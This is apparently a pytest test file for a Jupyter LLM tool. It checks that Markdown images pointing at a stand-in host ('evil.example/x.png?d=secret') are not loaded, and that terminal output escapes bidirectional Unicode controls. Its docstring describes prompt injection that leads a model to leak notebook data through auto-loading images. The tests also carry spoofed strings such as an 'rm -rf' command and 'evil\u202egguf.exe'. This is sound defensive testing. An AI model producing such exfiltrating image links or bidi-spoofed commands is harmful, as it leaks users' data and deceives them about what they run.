"""What a prompt injection can make a model write, shown to a person:

- Markdown images load by themselves, so ``![](https://evil/x.png?d=<notebook
  data>)`` would send that data to another host without a click. Images render
  only from ``data:`` URLs; any other becomes a link, with its target shown.
- Bidirectional controls (U+202E and its kin) reorder what a terminal shows, so
  a command can read differently from what it is. The CLI shows them escaped.
"""

from __future__ import annotations

import argparse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_output_safety import PIECES, ScriptedEndpoint, assert_inert, rendered

from jupyter_llm.connect.terminal import terminal_text
from jupyter_llm.connect.views import models_table
from jupyter_llm.kernel.markdown import safe_markdown

LEAK = "https://evil.example/x.png?d=secret&user=ann_b*c"
PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"  # a PNG's start


def images(markdown: str) -> list[str]:
    """The src of every <img> the Markdown renders to."""
    return [dict(attrs).get("src") or "" for tag, attrs in rendered(markdown).tags if tag == "img"]


@pytest.mark.parametrize(
    "text",
    [
        f"![chart]({LEAK})",
        f'![chart]({LEAK} "a title")',
        f"![chart](<{LEAK}>)",
        f"![chart]( {LEAK.upper()} )",
        "![x](//evil.example/x.png)",  # no scheme: the page's own
        f"![x][r]\n\n[r]: {LEAK}",
        f"![r]\n\n[r]: {LEAK}",
        f"- item\n\n  > ![x]({LEAK})",
        f"| a |\n|---|\n| ![x]({LEAK}) |",
        f"[![badge]({LEAK})](https://example.org)",
        f"\\\\![x]({LEAK})",  # an escaped backslash: the "!" is live
        # a code span hides "](" from a naive scanner; CommonMark reads the second URL
        f"![a `]({PNG}) ` b]({LEAK})",
        f"![a]({PNG}\n![b]({LEAK})",
    ],
)
def test_remote_images_do_not_load(text):
    markdown = safe_markdown(text)
    assert all(src.startswith("data:image/") for src in images(markdown)), markdown


def test_a_remote_image_becomes_a_link_showing_its_target():
    elements = rendered(safe_markdown(f"Here: ![chart]({LEAK}) done"))
    assert not [tag for tag, _ in elements.tags if tag == "img"]
    hrefs = [dict(attrs)["href"] for tag, attrs in elements.tags if tag == "a"]
    assert hrefs == [LEAK]  # one click away, never fetched unasked
    assert f"image not loaded: {LEAK}" in "".join(elements.text)


def test_data_images_still_render():
    markdown = safe_markdown(f"a plot: ![plot]({PNG}) and text")
    assert images(markdown) == [PNG]


@pytest.mark.parametrize(
    "text",
    [
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",  # not a raster image
        "![x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/png,<svg>)",  # not base64
        '![x](DATA:image/png;base64,AAAA "t")',  # a title: not the one form kept
    ],
)
def test_other_data_urls_do_not_render_as_images(text):
    assert images(safe_markdown(text)) == []


def test_images_in_code_stay_code():
    elements = assert_inert(safe_markdown(f"```md\n![x]({LEAK})\n```\n\nand `![y]({LEAK})`"))
    assert not [tag for tag, _ in elements.tags if tag == "img"]
    assert elements.code[0].endswith(f"![x]({LEAK})\n") and elements.code[1].endswith(")")


IMAGE_PIECES = st.sampled_from(["![", "](", LEAK, PNG, ")", "]", "`", "\\", "\n", "[r]: ", "<"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(PIECES, IMAGE_PIECES), max_size=30).map("".join))
def test_no_text_makes_a_remote_image(text):
    markdown = safe_markdown(text)
    assert all(src.startswith("data:image/") for src in images(markdown)), markdown


# -- bidirectional controls in a terminal --------------------------------------------------
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_bidi_controls_are_shown_escaped():
    shown = terminal_text(f"rm -rf /tmp/x\u202e# safe\u202c {BIDI}")
    assert not set(shown) & set(BIDI)
    assert shown.startswith("rm -rf /tmp/x\\u202e# safe\\u202c ")
    assert shown.endswith(
        "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069\\u200e\\u200f\\u061c"
    )


@pytest.mark.parametrize(
    "text", ["שלום עולם", "مرحبا بالعالم", "mixed עברית and English 123", "emoji 👋 · ünïcode"]
)
def test_right_to_left_letters_are_unchanged(text):
    assert terminal_text(text) == text


def test_cli_run_and_tables_escape_bidi_controls(capsys):
    from jupyter_llm.cli import cmd_run

    endpoint = ScriptedEndpoint(["look: \u202e", "gnp.exe", " שלום\n"])
    args = argparse.Namespace(name="tiny", prompt=["hi"], num_predict=None)
    assert cmd_run(endpoint, args) == 0  # type: ignore[arg-type]
    assert capsys.readouterr().out == "look: \\u202egnp.exe שלום\n\n"
    table = models_table(
        [{"name": "evil\u202egguf.exe", "digest": "0" * 12, "size": 1, "modified_at": ""}]
    )
    assert "\u202e" not in table and "evil\\u202egguf.exe" in table


def test_create_progress_escapes_what_the_server_says(capsys):
    from jupyter_llm.connect.create import _to_stderr

    _to_stderr("writing \x1b[2J manifest \u2067x")
    assert capsys.readouterr().err == "writing [2J manifest \\u2067x\n"
